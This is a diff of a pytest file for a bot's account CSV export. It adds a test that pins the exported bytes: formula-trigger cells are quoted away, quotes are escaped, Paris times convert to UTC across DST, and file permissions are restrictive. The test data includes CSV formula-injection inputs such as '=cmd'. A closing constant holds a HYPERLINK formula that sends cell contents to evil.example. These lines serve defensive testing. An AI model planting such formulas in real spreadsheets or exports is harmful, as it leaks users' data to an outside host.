@@ -13,6 +13,7 @@ import stat
 from collections.abc import Iterator
 from datetime import UTC, datetime
 from pathlib import Path
+from zoneinfo import ZoneInfo
 
 import pypdfium2 as pdfium
 import pytest
@@ -25,7 +26,7 @@ from bot.procedures.throttle import identifiant_key
 from bot.security import KeyedHasher, load_or_create_server_secret, normalise_identifiant
 from bot.staff.service import spreadsheet_cell
 from storage.accounts import ActivationRecord, SqliteAccountDirectory
-from storage.db import Database
+from storage.db import Database, to_db_time
 from storage.sessions import ConversationSession, SessionRepository
 from storage.throttle import ThrottleRepository
 
@@ -316,6 +317,187 @@ def test_export_round_trip(imported: Path, capsys: pytest.CaptureFixture[str]) -
     text = target.read_text(encoding="utf-8-sig")
     assert "$argon2" not in text and all(account[1] not in text for account in ACCOUNTS)
     assert run(["accounts", "export", str(imported / "nope" / "x.csv")], capsys)[0] == 2
+
+
+PARIS = ZoneInfo("Europe/Paris")
+
+
+def _paris(text: str) -> str:
+    """A Paris wall-clock time as the database keeps it (UTC, see to_db_time)."""
+    return to_db_time(datetime.fromisoformat(text).replace(tzinfo=PARIS))
+
+
+def test_export_bytes_are_pinned(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Every kind of cell, byte for byte: formula triggers quoted away, ``"`` doubled, ``;``
+    and line breaks kept inside quotes, None as "", times in UTC cut (never rounded) to the
+    second, across Paris's DST changes; the step from an open procedure, else the audit
+    trail since the last reset; the lock; a Telegram id of 0 is « non »; BOM, CRLF, 0600."""
+    data = env / "data"
+    key = load_or_create_server_secret(data / "server.key")
+    # identifiant, profil, prenom, nom, etablissement, status, e-mail verified, questions,
+    # telegram id, cgu accepted, activated, imported (Paris times)
+    accounts = [
+        (
+            "=cmd",
+            "@x",
+            "+1",
+            "-1",
+            "\tTab",
+            "a_activer",
+            None,
+            False,
+            None,
+            None,
+            None,
+            "2026-01-01T00:30:00",
+        ),
+        (
+            "\rcr",
+            "eleve",
+            'Dit "Jo"',
+            "Nom;avec",
+            "Ligne\nDeux",
+            "a_activer",
+            None,
+            False,
+            0,
+            "2026-03-29T01:59:59.999999",
+            None,
+            "2026-03-29T03:00:00.000001",
+        ),
+        (
+            "mail.q",
+            "parent",
+            "'t Hooft",
+            "",
+            "",
+            "active",
+            "2026-10-25T02:30:00",
+            True,
+            42,
+            "2026-10-25T02:30:00",
+            "2026-10-25T03:30:00.5",
+            "2026-07-14T12:00:00",
+        ),
+        (
+            "questions",
+            "enseignant",
+            "Zoé",
+            "Ærø",
+            "Lycée",
+            "active",
+            None,
+            True,
+            7,
+            "2026-12-31T23:59:59.999999",
+            "2027-01-01T00:00:00",
+            "2026-12-31T23:59:59.999999",
+        ),
+        (
+            "cgu.seule",
+            "eleve",
+            "Å",
+            "B",
+            "C",
+            "a_activer",
+            None,
+            False,
+            None,
+            None,
+            None,
+            "2026-01-01T00:00:00",
+        ),
+    ]
+
+    async def seed() -> None:
+        database = await Database.open(data / "bot.sqlite3")
+        try:
+            async with database.transaction() as connection:
+                for n, (
+                    ident,
+                    profil,
+                    prenom,
+                    nom,
+                    etab,
+                    status,
+                    verified,
+                    questions,
+                    telegram,
+                    cgu,
+                    activated,
+                    imported,
+                ) in enumerate(accounts, 1):
+                    await connection.execute(
+                        """INSERT INTO accounts (id, identifiant, identifiant_norm, status, profil,
+                               prenom, nom, etablissement, email, email_verified_at,
+                               secret_answer2_hash, telegram_user_id, cgu_version,
+                               cgu_accepted_at, activated_at, imported_at, updated_at)
+                           VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)""",
+                        (
+                            n,
+                            ident,
+                            normalise_identifiant(ident),
+                            status,
+                            profil,
+                            prenom,
+                            nom,
+                            etab,
+                            "a@example.org" if verified else None,
+                            _paris(verified) if verified else None,
+                            "h" if questions else None,
+                            telegram,
+                            "v1" if cgu else None,
+                            _paris(cgu) if cgu else None,
+                            _paris(activated) if activated else None,
+                            _paris(imported),
+                            _paris(imported),
+                        ),
+                    )
+                at = _paris("2026-01-02T00:00:00")
+                await connection.execute(
+                    "INSERT INTO conversation_sessions (telegram_user_id, chat_id, flow, step, "
+                    "account_id, started_at, updated_at) "
+                    "VALUES (9, 9, 'activation', 'email', 1, ?, ?)",
+                    (at, at),
+                )
+                for account_id, event in (
+                    (2, "cgu_accepted"),
+                    (2, "reset"),
+                    (2, "activation_started"),
+                    (5, "cgu_accepted"),
+                    (1, "questions_set"),
+                ):
+                    await connection.execute(
+                        "INSERT INTO audit_events (at, event, account_id, actor, details) "
+                        "VALUES (?, ?, ?, 't', '')",
+                        (at, event, account_id),
+                    )
+                await connection.execute(
+                    "INSERT INTO throttle (key, consecutive_failures, locked_at) VALUES (?, 9, ?)",
+                    (identifiant_key(KeyedHasher(key), "\rcr"), at),
+                )
+        finally:
+            await database.close()
+
+    asyncio.run(seed())
+    target = env / "etat.csv"
+    assert run(["accounts", "export", str(target)], capsys)[0] == 0
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+    lines = [
+        '"identifiant";"profil";"prenom";"nom";"etablissement";"statut";"etape";"importe_le";'
+        '"active_le";"cgu_acceptees_le";"secours";"lie_telegram";"bloque"',
+        '"\'=cmd";"\'@x";"\'+1";"\'-1";"\'\tTab";"a_activer";"email";"2025-12-31T23:30:00Z";'
+        '"";"";"";"non";"non"',
+        '"cgu.seule";"eleve";"Å";"B";"C";"a_activer";"choix_secours";"2025-12-31T23:00:00Z";'
+        '"";"";"";"non";"non"',
+        '"\'\rcr";"eleve";"Dit ""Jo""";"Nom;avec";"Ligne\nDeux";"a_activer";"cgu";'
+        '"2026-03-29T01:00:00Z";"";"2026-03-29T00:59:59Z";"";"non";"oui"',
+        '"mail.q";"parent";"\'t Hooft";"";"";"active";"active";"2026-07-14T10:00:00Z";'
+        '"2026-10-25T02:30:00Z";"2026-10-25T00:30:00Z";"email";"oui";"non"',
+        '"questions";"enseignant";"Zoé";"Ærø";"Lycée";"active";"active";"2026-12-31T22:59:59Z";'
+        '"2026-12-31T23:00:00Z";"2026-12-31T22:59:59Z";"questions";"oui";"non"',
+    ]
+    assert target.read_bytes() == "".join(line + "\r\n" for line in lines).encode("utf-8-sig")
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
